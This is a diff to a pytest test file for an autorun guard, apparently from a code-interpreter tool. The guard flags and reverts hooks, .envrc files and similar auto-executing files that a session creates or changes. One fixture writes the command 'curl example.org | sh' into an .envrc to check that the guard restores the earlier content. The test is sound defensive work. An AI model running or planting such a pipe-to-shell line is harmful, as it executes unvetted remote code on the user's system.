@@ -5,8 +5,7 @@ import subprocess
 
 import pytest
 
-from interpreter.policies.autorun import AutorunGuard, Flag
-from interpreter.protocol.events import FileChange
+from interpreter.policies.autorun import AutorunGuard, Changed, Flag
 
 
 @pytest.fixture
@@ -27,7 +26,7 @@ def test_ordinary_work_is_not_flagged(guard, workspace):
     (workspace / "main.py").write_text("print()")
     subprocess.run(["git", "-C", str(workspace), "add", "main.py"], check=True)
     subprocess.run(["git", "-C", str(workspace), "config", "user.name", "Ann"], check=True)
-    assert guard.end([FileChange("main.py", "added")]) == ()
+    assert guard.end([Changed("main.py", is_new=True)]) == ()
 
 
 def test_a_new_hook_is_flagged_and_removed(guard, workspace):
@@ -78,10 +77,55 @@ def test_only_the_scripts_of_a_package_matter(guard, workspace):
 def test_files_deep_down_are_flagged_when_the_change_is_known(guard, workspace, path):
     (workspace / path).parent.mkdir(parents=True)
     (workspace / path).write_text("x")
-    flags = guard.end([FileChange(path, "added")])
+    flags = guard.end([Changed(path, is_new=True)])
     assert flags == (Flag(path, "added"),)
     guard.revert(flags)
     assert not (workspace / path).exists()
+
+
+def test_a_file_deep_down_gets_back_what_it_held(guard, workspace, tmp_path):
+    file, kept = workspace / "a/.envrc", tmp_path / "kept"
+    file.parent.mkdir()
+    file.write_text("curl example.org | sh\n")
+    kept.write_text("export A=1\n")
+    flags = guard.end([Changed("a/.envrc", before=kept)])
+    assert flags == (Flag("a/.envrc", "changed"),)
+    assert guard.revert(flags) == ()
+    assert file.read_text() == "export A=1\n"
+
+
+def test_a_file_whose_content_is_not_known_is_left_alone(guard, workspace):
+    (workspace / "a").mkdir()
+    (workspace / "a/.envrc").write_text("x")
+    flags = guard.end([Changed("a/.envrc")])
+    assert flags == (Flag("a/.envrc", "changed", can_revert=False),)
+    assert guard.revert(flags) == ("a/.envrc",)
+    assert (workspace / "a/.envrc").read_text() == "x"
+
+
+def changed_below(directory, workspace):
+    files = [path for path in directory.rglob("*") if path.is_file()]
+    return [Changed(str(path.relative_to(workspace)), is_new=True) for path in files]
+
+
+def test_a_new_repository_and_a_new_environment_are_ordinary(guard, workspace):
+    subprocess.run(["git", "init", "-q", str(workspace / "sub")], check=True)
+    (workspace / "sub/.vscode").mkdir()
+    (workspace / "sub/.vscode/settings.json").write_text("{}")
+    (workspace / "env/lib").mkdir(parents=True)
+    (workspace / "env/pyvenv.cfg").write_text("home = /usr/bin")
+    (workspace / "env/lib/distutils.pth").write_text("import os")
+    changes = [*changed_below(workspace / "sub", workspace)]
+    assert guard.end([*changes, *changed_below(workspace / "env", workspace)]) == ()
+
+
+def test_what_only_looks_like_a_new_environment_hides_nothing(guard, workspace):
+    (workspace / "src").mkdir()
+    (workspace / "src/main.py").write_text("old")
+    for name in ("pyvenv.cfg", ".envrc"):
+        (workspace / "src" / name).write_text("x")
+    new = [Changed("src/pyvenv.cfg", is_new=True), Changed("src/.envrc", is_new=True)]
+    assert guard.end(new) == (Flag("src/.envrc", "added"),)
 
 
 def test_a_link_does_not_lead_the_guard_out_of_the_workspace(tmp_path):
